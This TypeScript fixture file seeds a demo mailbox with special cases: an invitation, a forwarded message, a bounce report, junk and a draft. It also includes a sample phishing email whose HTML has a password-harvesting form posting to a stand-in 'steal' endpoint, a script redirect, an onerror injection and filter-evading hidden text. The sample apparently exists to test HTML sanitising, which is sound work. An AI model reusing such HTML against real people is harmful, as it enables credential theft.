// The odd ones: a phishing attempt, junk, a bounce, an invitation, an attached message, a draft, a deleted message.
import { days, hours, type Letter, type Who } from './compose';
import { invitation } from './files';
import { clara, dev, mia } from './people';

const who = (name: string, address: string): Who => ({ name, address });

/** A letter and the folder it lies in. */
export interface Placed {
  folder: string;
  letter: Letter;
}

/** What every real mailbox has and nobody wants to show. */
export function specialLetters(me: Who, now: number): Placed[] {
  return [
    { folder: 'INBOX', letter: phishing(me) },
    { folder: 'INBOX', letter: meeting(me, now) },
    { folder: 'INBOX', letter: attachedMessage(me) },
    { folder: 'Sent', letter: toWrongAddress(me) },
    { folder: 'INBOX', letter: bounce(me) },
    ...junk(me),
    { folder: 'Drafts', letter: draft(me) },
    {
      folder: 'Trash',
      letter: {
        ago: days(2),
        from: who('Gym World', 'offers@gym-world.example'),
        to: [me],
        subject: 'Last chance: 12 months for 10',
        text: 'Last chance (again).',
        flags: ['\\Seen'],
      },
    },
  ];
}

function phishing(me: Who): Letter {
  return {
    ago: hours(6),
    from: who('City Bank Security', 'security@citybank-verify.example'),
    replyTo: who('City Bank', 'collect@mail-drop.example'),
    to: [me],
    subject: 'URGENT: your account will be closed today',
    text: 'Verify your account: http://citybank.example.login-check.example/verify',
    html: `<div style="font-family:Arial"><p style="color:#b00"><b>Your account will be closed today!</b></p>
      <p>Dear customer, we saw an unusual sign-in. Verify your password at
      <a href="http://citybank.example.login-check.example/verify?u=${me.address}">https://www.citybank.example/secure</a>.</p>
      <form action="http://login-check.example/steal" method="post"><input name="user" value="${me.address}">
      <input name="password" type="password"><button>Verify now</button></form>
      <script>location.href = 'http://login-check.example/';</script>
      <img src="http://login-check.example/pixel.gif" onerror="alert('this must never show')" width="1" height="1">
      <p style="font-size:1px;color:#fff">random words that please a filter: garden table music</p></div>`,
  };
}

function meeting(me: Who, now: number): Letter {
  const start = new Date(now + 2 * 86_400_000);
  start.setUTCHours(13, 0, 0, 0);
  return {
    ago: hours(9),
    from: dev,
    to: [me, mia],
    subject: 'Invitation: Planning for summer',
    text: 'Planning for summer\nRoom 2, 45 minutes. Bring one idea each.',
    invitation: invitation({
      uid: `planning-${me.address}`,
      summary: 'Planning for summer',
      location: 'Room 2',
      description: 'Bring one idea each.',
      start,
      minutes: 45,
      organizer: dev,
      attendees: [me, mia],
    }),
  };
}

function attachedMessage(me: Who): Letter {
  const inner = [
    'From: Clara =?UTF-8?Q?Nov=C3=A1k?= <clara@studio-novak.example>',
    'To: Dev Patel <dev.patel@brightworks.example>',
    'Subject: The sign above the door',
    'Message-ID: <sign-above-the-door@studio-novak.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Dear Dev, the sign is ready. It is bigger than the door.',
    '',
  ].join('\r\n');
  return {
    ago: days(1.4),
    from: dev,
    to: [me],
    subject: 'Fwd: The sign above the door',
    text: 'You should see this (attached).\n\nDev',
    files: [{ name: 'The sign above the door.eml', type: 'message/rfc822', content: inner }],
    flags: ['\\Seen', '\\Flagged'],
  };
}

const lostId = (me: Who) => `<lost-letter.${me.address}>`;

function toWrongAddress(me: Who): Letter {
  return {
    ago: days(1.3),
    id: lostId(me),
    from: me,
    to: [who('Clara Novak', 'clara@studio-nowak.example')],
    subject: 'Samples of oak',
    text: 'Dear Clara,\n\ncould you bring the darker sample too?\n\nThanks',
    flags: ['\\Seen'],
  };
}

/** A delivery report as Postfix writes it (RFC 3464). */
function bounce(me: Who): Letter {
  return {
    ago: days(1.3) - 1,
    from: me,
    to: [me],
    subject: '',
    raw: (date) => `Return-Path: <>
Date: ${date.toUTCString().replace('GMT', '+0000')}
From: Mail Delivery System <MAILER-DAEMON@demo.test>
To: ${me.address}
Subject: Undelivered Mail Returned to Sender
Message-ID: <bounce.${date.getTime()}.${me.address}>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="demo-report"

This is a MIME-encapsulated message.

--demo-report
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host demo.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<clara@studio-nowak.example>: Host or domain name not found. Name service
    error for name=studio-nowak.example type=AAAA: Host not found

--demo-report
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; demo.test
Arrival-Date: ${date.toUTCString().replace('GMT', '+0000')}

Final-Recipient: rfc822; clara@studio-nowak.example
Original-Recipient: rfc822;clara@studio-nowak.example
Action: failed
Status: 5.4.4
Diagnostic-Code: X-Postfix; Host or domain name not found. Name service error
    for name=studio-nowak.example type=AAAA: Host not found

--demo-report
Content-Description: Undelivered Message
Content-Type: message/rfc822

From: ${me.name} <${me.address}>
To: Clara Novak <clara@studio-nowak.example>
Subject: Samples of oak
Message-ID: ${lostId(me)}

Dear Clara,

could you bring the darker sample too?

Thanks

--demo-report--
`,
  };
}

function junk(me: Who): Placed[] {
  const letter = (ago: number, from: Who, subject: string, text: string): Placed => ({
    folder: 'Junk',
    letter: { ago, from, to: [me], subject, text, headers: { 'X-Spam-Flag': 'YES' } },
  });
  return [
    letter(
      hours(5),
      who('Dr. Prosper', 'prosper@fund.example'),
      'Confidential: 12.5 million',
      'Dear friend, I write with trust.',
    ),
    letter(hours(30), who('Pills4U', 'x8@cheap.example'), 'C.h.e.a.p  p.i.l.l.s', 'No prescription!!!'),
    letter(
      days(2),
      who('Parcel Service', 'parcel@track-now.example'),
      'Your parcel waits: pay 1.99',
      'Pay here: http://track-now.example/pay',
    ),
  ];
}

function draft(me: Who): Letter {
  return {
    ago: hours(1.5),
    from: me,
    to: [clara],
    subject: 'Colours for the hall',
    text: 'Dear Clara,\n\nwe thought of a warm white for the hall and\n',
    flags: ['\\Draft', '\\Seen'],
  };
}
